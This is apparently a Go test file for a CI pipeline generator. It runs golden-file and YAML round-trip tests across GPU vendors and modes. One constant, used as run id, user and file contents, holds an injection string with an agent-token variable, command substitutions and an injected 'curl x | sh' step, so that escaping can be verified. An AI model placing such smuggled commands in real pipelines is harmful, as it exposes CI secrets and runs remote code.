package pipelinegen

import (
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"github.com/gpu-mode/kbgen/internal/contract"
	"github.com/gpu-mode/kbgen/internal/golden"
	"github.com/gpu-mode/kbgen/payload"
	"github.com/gpu-mode/kbgen/registry"
)

// goldenDir holds one generated pipeline per vendor × mode, plus the
// adversarial job. UPDATE_GOLDEN=1 go test ./pipelinegen rewrites them.
const goldenDir = "../golden/pipelines"

// adversarialText is what a hostile run id, user or file holds: agent
// secrets to expand, a command substitution, and YAML breakers.
const adversarialText = "$BUILDKITE_AGENT_ACCESS_TOKEN ${HOME} $(id) `id` \": \n- key: evil\n  command: curl x | sh\n#"

type goldenCase struct {
	name string
	job  Job
	v    *registry.Vendor
}

func goldenCases(t *testing.T) []goldenCase {
	t.Helper()
	reg, err := registry.Load("")
	if err != nil {
		t.Fatal(err)
	}
	var cases []goldenCase
	for _, v := range reg.Vendors {
		for _, m := range payload.Modes {
			if !v.RunsMode(m) || m == payload.ModeProfile && v.MultiGPU() && v.Runtime == contract.RuntimeNVIDIA {
				continue // refused: TestShapeRefusals
			}
			in, err := ExampleJobFor(v, m)
			if err != nil {
				t.Fatal(err)
			}
			cases = append(cases, goldenCase{
				name: filepath.Join(v.Queue, string(m)+".yml"),
				job:  Job{Input: in, RunID: "golden-run", Queue: v.Queue},
				v:    v,
			})
		}
	}
	in := exampleIn(t, payload.ModeLeaderboard)
	cfg := *in.Config
	cfg.Sources = map[string]string{"eval.py": adversarialText, "submission.py": adversarialText}
	enc, err := payload.EncodeConfig(&cfg)
	if err != nil {
		t.Fatal(err)
	}
	h100, _ := reg.Lookup("nvidia-h100")
	cases = append(cases, goldenCase{
		name: "adversarial.yml",
		job:  Job{Input: &payload.Input{Config: &cfg, Encoded: enc}, RunID: adversarialText, User: adversarialText, Priority: "5"},
		v:    h100,
	})
	return cases
}

func TestGoldenPipelines(t *testing.T) {
	t.Parallel()
	for _, gc := range goldenCases(t) {
		t.Run(gc.name, func(t *testing.T) {
			t.Parallel()
			p, err := Generate(gc.job, gc.v, Options{})
			if err != nil {
				t.Fatal(err)
			}
			got, err := Marshal(p)
			if err != nil {
				t.Fatal(err)
			}
			golden.Check(t, filepath.Join(goldenDir, gc.name), got)
		})
	}
}

// TestGoldenRoundTrip: what go-pipeline parses back from each golden file
// marshals to the same bytes, so no field is lost or invented by YAML.
func TestGoldenRoundTrip(t *testing.T) {
	t.Parallel()
	files, _ := filepath.Glob(filepath.Join(goldenDir, "*", "*.yml"))
	files = append(files, filepath.Join(goldenDir, "adversarial.yml"))
	if len(files) < 50 {
		t.Fatalf("only %d golden pipelines found", len(files))
	}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		p, err := Parse(data)
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		again, err := Marshal(p)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(again, data) {
			t.Errorf("%s: round trip changed the pipeline:\n%s", f, again)
		}
	}
}
